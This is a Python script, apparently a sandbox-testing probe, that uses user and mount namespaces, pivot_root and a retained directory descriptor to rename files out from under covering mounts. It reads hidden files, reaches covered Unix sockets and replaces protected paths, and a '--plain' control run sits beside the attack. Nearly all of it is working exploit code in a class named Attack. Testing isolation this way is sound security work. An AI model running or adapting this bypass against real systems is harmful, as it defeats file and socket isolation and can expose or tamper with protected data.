"""Renames what a mount covers, through a descriptor whose mount namespace is gone.

The kernel refuses to rename a mount point only in the caller's own mount namespace. So: open the worktree, make user and
mount namespaces, change the root, detach the old one, and go on through the descriptor. A bind of an empty folder of the
worktree, made before, shows what is renamed into it without whatever covered it.

    rename.py TREE read NAME            what is behind the cover of NAME
    rename.py TREE read-parent NAME     the same, by moving the folder that NAME lies in
    rename.py TREE connect NAME         whether the socket NAME answers
    rename.py TREE replace NAME WITH    puts WITH, a name in TREE, in the place of NAME

With `--plain` before TREE the same is done without namespaces: the control, for where nothing is covered. Prints one line:

    OPEN RESULT     it worked
    held ERRNO      the kernel refused it
    broken ERRNO    the way there failed, so nothing is proved
"""
import ctypes, errno, os, socket, sys

NEWUSER, NEWNS, MS_BIND, MNT_DETACH = 0x10000000, 0x20000, 4096, 2
libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    whole = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    if libc.syscall(ctypes.c_long(number), *whole) < 0:
        raise OSError(ctypes.get_errno(), "syscall")


def mount(source, target, kind, flags=0):
    call(165, source.encode(), target.encode(), kind and kind.encode(), flags, None)


def namespaces():
    """A user namespace that knows this user, and mounts of its own. The room's root needs only the latter."""
    user, group = os.geteuid(), os.getegid()
    if user == 0:
        call(272, NEWNS)
        return
    call(272, NEWUSER | NEWNS)
    for name, text in (("setgroups", "deny"), ("uid_map", f"{user} {user} 1"), ("gid_map", f"{group} {group} 1")):
        with open(f"/proc/self/{name}", "w") as file: file.write(text)


def leave(tree, bridge):
    """Leaves every mount of the room behind but a bind of `bridge`, and returns that."""
    namespaces()
    mount("none", "/mnt", "tmpfs")
    os.mkdir("/mnt/bridge")
    mount(f"{tree}/{bridge}", "/mnt/bridge", None, MS_BIND)
    os.chdir("/mnt")
    call(155, b".", b".")
    call(166, b".", MNT_DETACH)
    return os.open("/bridge", os.O_RDONLY | os.O_DIRECTORY)


def read(bridge, name):
    with os.fdopen(os.open(name, os.O_RDONLY, dir_fd=bridge)) as file: return file.read()


def connect(bridge, name):
    os.fchdir(bridge)
    socket.socket(socket.AF_UNIX).connect(name)
    return "answered"


class Attack:
    def __init__(self, tree, plain):
        self.folder = os.open(tree, os.O_RDONLY | os.O_DIRECTORY)
        self.bridge = f".bridge-{os.getpid()}"
        os.mkdir(self.bridge, dir_fd=self.folder)
        self.shown = os.open(self.bridge, os.O_RDONLY, dir_fd=self.folder) if plain else leave(tree, self.bridge)

    def rename(self, source, target):
        os.rename(source, target, src_dir_fd=self.folder, dst_dir_fd=self.folder)

    def look(self, moved, rest, action):
        self.rename(moved, f"{self.bridge}/moved")
        try: return action(self.shown, f"moved{rest}")
        finally: self.rename(f"{self.bridge}/moved", moved)

    def do(self, verb, name, other=None):
        if verb == "replace":
            # First aside, because a folder cannot take the place of a file at once.
            self.rename(name, f"{self.bridge}/aside")
            self.rename(other, name)
            return "replaced"
        if verb == "read-parent":
            parent, last = os.path.split(name)
            return self.look(parent, f"/{last}", read)
        return self.look(name, "", {"read": read, "connect": connect}[verb])


def main(arguments):
    plain = arguments[0] == "--plain"
    tree, *words = arguments[plain:]
    try: attack = Attack(tree, plain)
    except OSError as error: return f"broken {errno.errorcode.get(error.errno, error)}"
    try: return f"OPEN {attack.do(*words)!r}"
    except OSError as error: return f"held {errno.errorcode.get(error.errno, error)}"


print(main(sys.argv[1:]), flush=True)
